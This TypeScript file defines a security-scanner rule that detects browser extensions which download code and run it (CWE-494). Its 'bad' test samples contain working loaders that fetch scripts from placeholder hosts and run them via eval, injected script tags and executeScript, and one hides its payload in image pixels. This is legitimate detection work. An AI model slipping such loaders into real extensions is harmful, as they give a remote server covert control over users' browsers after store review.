import { callAt, Op, opOf, pattern, posOf } from '../../facts/javascript/query.ts';
import { addressAsked } from '../../program/addressAsked.ts';
import { inContent, isPrivileged } from '../../program/where.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
import type { Flow } from '../../taint/flow.ts';
import type { Source } from '../../taint/spec.ts';
import { RUNS } from '../../taint/kinds.ts';
import { sample } from '../../testing/sample.ts';
import { defineRule } from '../../rule.ts';
import { codeRunsOf } from '../code/codeRuns.ts';
import { isInTexts } from '../code/isInTexts.ts';
import type { Facts } from '../../facts.ts';
import { isNeverAsked, isOfOwnComputer, isUncalled } from '../code/isFromKnownServer.ts';

function weigh(facts: Facts, flow: Flow): Weight | undefined {
  const { source, sink, unit } = flow;
  if (source.kind === 'pixels') return { severity: 'critical', confidence: 'medium' };
  if (!RUNS.has(sink.kind)) return undefined;
  if (source.kind === 'site-answer') return { severity: isScript(source) ? 'medium' : 'high', confidence: 'medium' };
  if (source.kind !== 'remote-data') return undefined;
  // One step milder than a stranger's, as all that goes between an extension and its computer.
  if (isOfOwnComputer(source)) return { severity: 'high', confidence: 'medium' };
  // A sandboxed page has none of the extension's powers.
  if (sink.kind === 'code' && unit.roles.has('sandbox') && !isPrivileged(unit) && !inContent(unit))
    return { severity: 'medium', confidence: 'high' };
  if (sink.kind === 'script-address') return flow.checked ? undefined : { severity: 'high', confidence: 'medium' };
  if (isUncalled(facts, source)) return { severity: 'medium', confidence: 'low' };
  if (isWithinTexts(flow)) return { severity: 'high', confidence: 'medium' };
  return { severity: flow.checked ? 'high' : 'critical', confidence: flow.stored || flow.checked ? 'medium' : 'high' };
}

/** Whether a site is asked for one of its own scripts, which runs in its pages as it is. */
const isScript = ({ unit: { script }, shown }: Source): boolean =>
  opOf(script, shown) === Op.call &&
  /\.m?js(?:[?#]|$)/.test(pattern(script, addressAsked(script, callAt(script, shown))));

/** Whether the code that runs there holds data only inside texts: a flaw, not a program that the server sends. */
const isWithinTexts = ({ unit: { script }, pos }: Flow): boolean =>
  codeRunsOf(script).some((run) => posOf(script, run.value) === pos && isInTexts(script, run.code));

export default defineRule({
  id: 'remote-data-to-code',
  title: 'Remote code: downloads code and runs it',
  severity: 'critical',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-494',
  why: 'A server’s response runs as code. Whoever controls the server, or the connection to it, controls the extension after any review. Stores forbid it.',
  remedy: 'Ship all code with the extension. Fetch only data, and let fixed code decide what to do with it.',
  references: ['https://developer.chrome.com/docs/extensions/develop/migrate/remote-hosted-code'],
  cap: { grade: 'D', reason: 'it runs code that it downloads', from: 'high' },
  givesWayTo: ['remote-code'],
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      isNeverAsked(facts, flow.source) ? undefined : weigh(facts, flow),
    ),
  examples: {
    bad: [
      sample({
        content:
          'fetch("/people/styles").then((r) => r.text()).then((page) => { const s = document.createElement("script"); s.textContent = atob(page.split("|")[1]); document.head.append(s); });',
      }),
      sample({
        content:
          'fetch("/people/styles").then((r) => r.json()).then((p) => fetch(p.js)).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });',
      }),
      sample({
        content:
          'chrome.runtime.sendMessage("skin").then((text) => import("data:text/javascript;base64," + btoa(text)));',
        background:
          'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://cdn.example/skin").then((r) => r.text()).then(reply); return true; });',
      }),
      sample({
        background:
          'const points = (image) => { const c = document.createElement("canvas").getContext("2d"); c.drawImage(image, 0, 0); return c.getImageData(0, 0, 9, 9).data; }; const read = (d) => { let out = "", byte = 0; for (let i = 0; i < d.length; i++) { byte = (byte << 1) | (d[i] & 1); if (i % 8 === 7) out += String.fromCharCode(byte); } return out; }; const im = new Image(); im.onload = () => chrome.storage.local.set({ note: read(points(im)) }); im.src = "https://img.example/today.png"; chrome.tabs.onUpdated.addListener((id) => chrome.storage.local.get("note", (s) => chrome.tabs.executeScript(id, { code: s.note })));',
      }),
      sample({
        content:
          'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js")); load("https://cdn.example/more.js");',
      }),
      sample({ background: 'fetch("https://cdn.example/rules.js").then((r) => r.text()).then((t) => eval(t));' }),
      sample({
        background:
          'async function load() { const r = await fetch(HOST + "/x"); const code = (await r.json()).script; chrome.tabs.executeScript({ code }); } load();',
      }),
      sample({
        content:
          'var x = new XMLHttpRequest(); x.onload = function () { var s = document.createElement("script"); s.textContent = x.responseText; document.head.appendChild(s); }; x.open("GET", "https://cdn.example/a.js"); x.send();',
      }),
      sample({ background: '$.get("https://cdn.example/a", function (d) { new Function("return " + d.body)(); });' }),
      sample({
        background:
          'fetch("https://cdn.example/c").then((r) => r.json()).then((c) => chrome.storage.local.set({ conf: c })); chrome.storage.local.get("conf", (o) => { setTimeout(o.conf.run, 1); });',
      }),
      sample({
        background:
          'fetch("https://cdn.example/c").then((r) => r.text()).then((t) => localStorage.setItem("code", t)); setInterval(() => { chrome.tabs.executeScript({ code: localStorage.getItem("code") }); }, 5000);',
      }),
      sample({ background: 'axios.get("https://cdn.example/a").then(({ data }) => { (0, eval)(data); });' }),
    ],
    good: [
      sample({
        content:
          'chrome.runtime.sendMessage("skin").then((text) => { const s = document.createElement("img"); s.src = "data:image/png;base64," + text; document.body.append(s); });',
        background:
          'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://cdn.example/skin").then((r) => r.text()).then(reply); return true; });',
      }),
      // What is asked for is named by who calls a part of a library that nobody calls: weighed low.
      sample({
        content:
          'var Module = {}; (function () { function run(text) { eval.call(null, text); } Module.read = function (url) { var xhr = new XMLHttpRequest(); xhr.open("GET", url, false); xhr.send(null); return xhr.responseText; }; Module.hash = function (text) { return text.length; }; })(); console.log(Module.hash("x"));',
      }),
      sample({
        content:
          'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js"));',
      }),
      sample({
        content:
          'function load(file) { const x = new XMLHttpRequest(); x.open("GET", file); x.onload = () => { const s = document.createElement("script"); s.textContent = x.responseText; document.body.append(s); }; x.send(); } load(chrome.runtime.getURL("lib/cv.js"));',
      }),
      sample({
        background:
          'var x = new XMLHttpRequest(); x.open("GET", chrome.runtime.getURL("inject.js"), true); x.onload = function () { chrome.tabs.executeScript({ code: x.responseText }); }; x.send();',
      }),
      sample({
        background:
          'fetch("https://cdn.example/rules.json").then((r) => r.json()).then((rules) => { for (const r of rules) list.push(r); }); const list = [];',
      }),
      sample({
        background:
          'fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((t) => chrome.tabs.executeScript({ code: t }));',
      }),
      sample({
        background:
          'fetch("https://cdn.example/a").then((r) => r.text()).then((t) => setTimeout(() => use(t), 100)); function use() {}',
      }),
    ],
  },
});
